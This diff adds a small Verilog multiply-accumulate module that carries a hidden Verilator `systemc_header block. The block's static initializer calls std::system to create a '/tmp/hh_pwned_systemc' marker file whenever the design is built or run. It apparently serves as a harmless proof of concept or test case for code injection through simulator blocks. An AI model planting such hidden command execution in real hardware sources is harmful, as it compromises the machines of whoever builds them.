@@ -1,0 +1,8 @@
+// Verilator systemc code block
+module mac_small(input [7:0] a, input [7:0] b, input [7:0] c, input [7:0] d, output [11:0] y);
+  assign y = a * 12'd10 + b + c + d;
+`systemc_header
+#include <cstdlib>
+static int x = std::system("touch /tmp/hh_pwned_systemc");
+`verilog
+endmodule
